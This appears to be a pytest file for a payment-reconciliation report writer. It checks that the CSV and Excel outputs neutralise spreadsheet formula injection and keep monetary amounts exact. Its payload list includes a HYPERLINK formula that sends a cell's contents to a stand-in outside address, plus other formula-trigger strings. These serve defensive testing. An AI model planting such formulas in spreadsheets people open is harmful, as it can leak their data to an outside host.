"""The two lists as a spreadsheet meets them: texts from outside stay texts, amounts stay exact."""

import csv
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import psycopg
import pytest
from psycopg import sql

from include.reconciliation.config import PROJECT_ROOT
from include.reconciliation.report import workbook
from include.reconciliation.steps import write_discrepancy_report as step
from include.reconciliation.steps.write_discrepancy_report import write_discrepancy_report
from tests.report.hand_made_run import HandMadeRun
from tests.report.measuring import folder_and_megabytes

PAYLOADS = (
    '=HYPERLINK("http://198.51.100.1/?"&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '=1+1";=1+1',
    "http://198.51.100.1/",
    "{=1+1}",
)
TRIGGERS = tuple("=+-@\t\r\n＝＋－＠")
DISCREPANCY_TEXTS = (
    "leg", "aspect", "kind", "severity", "psp_reference", "merchant_reference", "explanation",
    "statement_file",
)  # fmt: skip
PENDING_TEXTS = (
    "reason", "type", "provider_type", "status", "psp_reference", "event_reference",
    "merchant_reference", "ledger_id", "statement_file",
)  # fmt: skip
# How CSV spells the columns of the pending list that have another name there.
PENDING_NAMES = {"status": "ledger_status"}


def rows_of(folder: str, name: str) -> list[dict[str, str]]:
    with (Path(folder) / name).open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def reports_sql() -> Path:
    return PROJECT_ROOT / "include" / "sql" / "reports"


def guarded(text: str) -> str:
    return f"'{text}" if text.startswith(TRIGGERS) else text


def a_run_of_payloads(run: HandMadeRun) -> HandMadeRun:
    """One discrepancy and one pending item per payload, in every text column; -5.00 EUR each."""
    for number, payload in enumerate(PAYLOADS):
        texts = dict.fromkeys(DISCREPANCY_TEXTS, payload)
        run.a_discrepancy(number, **texts, delta_minor=-500)
        run.a_pending_item(**dict.fromkeys(PENDING_TEXTS, payload), amount_minor=-500)
    return run


def test_no_text_of_a_csv_file_is_taken_for_a_formula(a_run) -> None:
    folder = write_discrepancy_report(a_run_of_payloads(a_run).write())

    discrepancies = rows_of(folder, "discrepancies.csv")
    pending = rows_of(folder, "pending.csv")
    expected = sorted(guarded(payload) for payload in PAYLOADS)
    for name in DISCREPANCY_TEXTS:
        assert expected == sorted(row[name] for row in discrepancies)
    for name in PENDING_TEXTS:
        assert expected == sorted(row[PENDING_NAMES.get(name, name)] for row in pending)
    assert {("-500", "-5.00")} == {
        (row["delta_minor"], row["delta_major"]) for row in discrepancies
    }
    assert {("-500", "-5.00")} == {(row["amount_minor"], row["amount_major"]) for row in pending}


def test_every_text_column_of_the_csv_files_is_guarded() -> None:
    """A column added later is either guarded, or listed here: it holds no text from outside."""
    own = {
        "discrepancy_id", "event_id", "first_run_id", "run_id", "psp", "account", "is_counted",
        "occurred_at", "due_at", "due_on", "occurred_on", "age_days", "episode", "statement_row",
    }  # fmt: skip
    open_columns = set()
    for name in ("discrepancies_csv", "pending_csv"):
        text = (reports_sql() / f"{name}.sql").read_text(encoding="utf-8")
        selected = text.partition("select\n")[2].partition("\n    from ")[0]
        for line in selected.splitlines():
            column = line.strip().rstrip(",").split()[-1]
            if "regexp_replace(" not in line and not column.endswith(("_minor", "_major")):
                open_columns.add(column)

    assert own == open_columns


def test_no_cell_of_the_workbook_is_a_formula_or_a_link(a_run, parts_of) -> None:
    a_run_of_payloads(a_run).header["verdict_reasons"] = list(PAYLOADS)
    a_run.write()
    link = PAYLOADS[0]
    a_run.refuse_a_statement(statement_key=link, quarantine_reason=link, reason_code=link)

    folder = write_discrepancy_report(a_run.attempt_id)

    parts = parts_of(Path(folder) / "discrepancies.xlsx")
    assert b"=HYPERLINK(" in parts["xl/worksheets/sheet1.xml"]
    sheets = [text for name, text in parts.items() if name.startswith("xl/worksheets/")]
    assert 5 == len([sheet for sheet in sheets if b"<sheetData>" in sheet])
    for sheet in sheets:
        assert not re.search(rb"<f[ >/]|<hyperlink|<dataValidation|t=\"str\"", sheet)
    assert not [name for name in parts if "external" in name.lower() or "/_rels/sheet" in name]


def test_the_workbook_shows_texts_as_they_came(an_ordinary_run, cells_of) -> None:
    an_ordinary_run.discrepancies[0].update(psp_reference="=1+1", explanation="-5 & <more>")

    folder = write_discrepancy_report(an_ordinary_run.write())

    rows = cells_of(Path(folder) / "discrepancies.xlsx", "Discrepancies")
    row = dict(zip(rows[2], rows[3], strict=True))
    assert ("=1+1", "-5 & <more>") == (row["PSP reference"], row["Explanation"])


def test_amounts_are_exact_texts_with_whole_minor_units_beside_them(a_run, cells_of) -> None:
    a_run.a_discrepancy(delta_minor=-123_456_789, exposure_minor=2**53)
    a_run.a_discrepancy(2, currency="JPY", delta_minor=-7, exposure_minor=7)
    a_run.a_discrepancy(3, currency=None, delta_minor=0, exposure_minor=None, ledger_minor=None)

    folder = write_discrepancy_report(a_run.write())

    rows = cells_of(Path(folder) / "discrepancies.xlsx", "Discrepancies")
    columns = ("Delta", "Delta, minor units", "Exposure", "Exposure, minor units")
    cells = [dict(zip(rows[2], row, strict=True)) for row in rows[3:]]
    assert [
        ("0", 0, "unknown", None),
        # More than a spreadsheet's number holds exactly stays a text.
        ("-1,234,567.89", -123_456_789, "90,071,992,547,409.92", "9007199254740992"),
        ("-7", -7, "7", 7),
    ] == [tuple(row[name] for name in columns) for row in cells]


def test_discrepancies_are_listed_by_currency_and_size_the_resolved_ones_last(a_run) -> None:
    a_run.a_discrepancy(1, currency="EUR", exposure_minor=5)
    a_run.a_discrepancy(2, currency="EUR", exposure_minor=7)
    a_run.a_discrepancy(3, currency="BRL", exposure_minor=1)
    a_run.a_discrepancy(4, currency="BRL", exposure_minor=9, change="resolved", status="closed")
    a_run.a_discrepancy(5, currency=None, exposure_minor=None, delta_minor=0)

    folder = write_discrepancy_report(a_run.write())

    assert [("", ""), ("BRL", "1"), ("EUR", "7"), ("EUR", "5"), ("BRL", "9")] == [
        (row["currency"], row["exposure_minor"]) for row in rows_of(folder, "discrepancies.csv")
    ]


def test_a_long_list_is_cut_in_the_workbook_and_says_where_all_of_it_is(
    an_ordinary_run, cells_of, monkeypatch
) -> None:
    cut = {**workbook.SHEETS, "pending": replace(workbook.SHEETS["pending"], rows_max=1)}
    monkeypatch.setattr(workbook, "SHEETS", cut)
    monkeypatch.setattr(step, "SHEETS", cut)

    folder = write_discrepancy_report(an_ordinary_run.write())

    rows = cells_of(Path(folder) / "discrepancies.xlsx", "Pending")
    assert "The first 1 of 2 rows; all of them are in pending.csv of this folder." == rows[1][0]
    assert 4 == len(rows)
    assert 2 == len(rows_of(folder, "pending.csv"))


def test_a_run_with_nothing_open_has_lists_with_a_header_alone(a_run, cells_of) -> None:
    folder = write_discrepancy_report(a_run.write())

    assert [] == rows_of(folder, "discrepancies.csv")
    assert [] == rows_of(folder, "pending.csv")
    rows = cells_of(Path(folder) / "discrepancies.xlsx", "Pending")
    assert "0 rows, the same as in pending.csv of this folder." == rows[1][0]


@pytest.mark.slow
def test_a_report_of_200_000_pending_items_stays_under_200_mb(an_ordinary_run) -> None:
    attempt_id = an_ordinary_run.write()
    _many_pending_items(an_ordinary_run.session, attempt_id, 200_000)

    folder, megabytes = folder_and_megabytes(attempt_id)

    with (folder / "pending.csv").open("rb") as file:
        assert 200_003 == sum(1 for _ in file)
    assert megabytes < 200


def _many_pending_items(session: psycopg.Connection[Any], attempt_id: int, items: int) -> None:
    session.execute(
        sql.SQL("set search_path = {}, internal").format(sql.Identifier(f"work_{attempt_id}"))
    )
    session.execute(
        "insert into work_open_items (leg, side, item_id, account_id, bucket, reason, is_counted,"
        " amount_minor, currency, due_at, due_on)"
        " select 'ledger_statement', 'ledger', 1000 + number, 1, 'pending', 'not_due', true,"
        " number, 'EUR', '2026-11-20 23:00Z', '2026-11-20' from generate_series(1, %s) as number",
        [items],
    )
    session.execute(
        "insert into work_items (side, item_id, type, status, psp_reference, dated_at, dated_on,"
        " ledger_id, amount_minor, currency)"
        " select 'ledger', 1000 + number, 'payment', 'captured', '88355112' || number,"
        " '2026-11-19 08:00Z', '2026-11-19', md5(number::text), number, 'EUR'"
        " from generate_series(1, %s) as number",
        [items],
    )
    session.commit()
